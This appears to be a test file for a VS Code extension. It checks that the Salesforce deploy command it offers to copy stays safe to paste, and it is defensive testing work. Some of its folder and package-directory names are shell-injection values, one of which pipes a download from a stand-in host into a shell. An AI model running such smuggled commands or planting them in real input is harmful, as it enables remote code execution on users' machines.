/** The source of a client app in a Salesforce project: what is offered to deploy it is safe to paste. */
import assert from 'node:assert/strict';
import type { Sessions } from '../../../src/session/sessions.ts';
import { editor, type ShownMessage } from '../support/vscodeStandIn.ts';

const { createClientApp } = await import('../../../src/commands/createClientAppCommand.ts');

/** The rows of the last question. */
let offered: readonly unknown[] = [];

const COPY = 'Copy Deploy Command';

/** Makes the source in a project in this folder of the workspace. @returns the last message */
async function createIn(folder: string, path = 'force-app'): Promise<ShownMessage | undefined> {
  editor.files.clear();
  editor.messages.length = 0;
  editor.clipboard = '';
  const project = { packageDirectories: [{ path, default: true }] };
  editor.files.set(`/workspace/${folder}/sfdx-project.json`, JSON.stringify(project));
  editor.pickRow = (rows) => {
    offered = rows;
    return rows[0];
  };
  editor.type = (title) => (title.includes('Email') ? 'it@acme.example' : 'Kiosk');
  editor.pick = ({ buttons }) => buttons.find((button) => button === COPY);
  try {
    const sessions = { active: () => Promise.resolve(undefined) };
    await createClientApp(sessions as unknown as Sessions);
  } finally {
    editor.pickRow = editor.type = editor.pick = () => undefined;
  }
  return editor.messages.at(-1);
}

describe('source of a client app in a project', () => {
  for (const folder of [
    'my project',
    'Løsninger/org-2',
    '$(curl evil.example|sh)',
    'a";id;"',
    '`id`',
  ]) {
    it(`the deploy command names the files as the project in ${JSON.stringify(folder)} has them, and where to run it`, async () => {
      const message = await createIn(folder);
      assert.ok(message?.buttons.includes(COPY));
      assert.match(
        editor.clipboard,
        /^sf project deploy start( --source-dir "force-app\/main\/default\/\w+\/Kiosk[\w.-]+"){3}$/,
      );
      assert.equal(editor.statusBarMessages.at(-1), `Copied. Run it in /workspace/${folder}.`);
      assert.equal(editor.files.size, 4);
    });
  }

  it('a package directory with a dot before or a slash behind it is one', async () => {
    await createIn('crm', './force-app/');
    assert.match(editor.clipboard, /--source-dir "force-app\/main\/default/);
  });

  it('a package directory that a shell might run is no place for it', async () => {
    const message = await createIn('crm', 'a$(id)');
    assert.ok(!message?.buttons.includes(COPY));
    assert.equal(editor.files.size, 1);
    assert.match(JSON.stringify(offered), /names no package directory/);
  });
});
